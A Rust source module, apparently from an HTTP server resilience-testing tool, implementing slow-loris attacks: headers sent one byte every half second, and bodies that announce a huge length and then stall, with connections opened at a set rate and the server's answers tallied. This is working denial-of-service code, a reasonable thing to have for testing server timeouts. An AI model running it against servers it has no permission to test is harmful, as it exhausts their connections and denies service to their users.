//! Connections that begin something and never end it.

use std::time::Duration;

use anyhow::Result;
use tokio::time::{Instant, sleep, sleep_until};

use super::{Answers, Attack, Target, head, join_all, note};
use crate::wire::{PATIENCE, Wire};

/// Between two bytes of a head: five would fit into any sensible idle time.
const DRIP: Duration = Duration::from_millis(500);
/// What of a body comes: one HTTP/2 window, a beacon at its largest.
const BEGUN: usize = 64 * 1024;

/// Slow loris: heads that come byte by byte.
pub(super) async fn heads(target: &Target, attack: Attack) -> Result<Answers> {
    each(attack, |_| async {
        let mut wire = Wire::connect(target.address).await?;
        let head = head(target, "x-drip: ", 1);
        let until = Instant::now() + PATIENCE;
        let mut bytes = head.bytes().chain(std::iter::repeat(b'a'));
        while Instant::now() < until {
            let byte = bytes.next().unwrap_or(b'a');
            if wire.send(&[byte]).await.is_err() {
                return anyhow::Ok(None);
            }
            sleep(DRIP).await;
        }
        Ok(Some("held".to_owned()))
    })
    .await
}

/// Bodies of which a part comes, and then nothing.
pub(super) async fn bodies(target: &Target, attack: Attack) -> Result<Answers> {
    let begun = vec![b' '; BEGUN];
    each(attack, |_| async {
        let mut wire = Wire::connect(target.address).await?;
        wire.send(head(target, "", 1_000_000).as_bytes()).await?;
        let _ = wire.send(&begun).await;
        Ok(wire.answer().await.map(|answer| answer.status.to_string()))
    })
    .await
}

/// One future for each connection, begun at the attack's rate. What each tells is counted; `None` is `closed`, an error too.
async fn each<F>(attack: Attack, one: impl Fn(usize) -> F) -> Result<Answers>
where
    F: Future<Output = Result<Option<String>>>,
{
    let from = Instant::now();
    let tasks: Vec<_> = (0..attack.count)
        .map(|n| {
            let one = &one;
            async move {
                sleep_until(from + Duration::from_secs_f64(n as f64 / attack.rate)).await;
                one(n).await
            }
        })
        .collect();
    let mut answers = Answers::new();
    for told in join_all(tasks).await {
        match told {
            Ok(Some(told)) => *answers.entry(told).or_default() += 1,
            Ok(None) | Err(_) => note(&mut answers, None),
        }
    }
    Ok(answers)
}
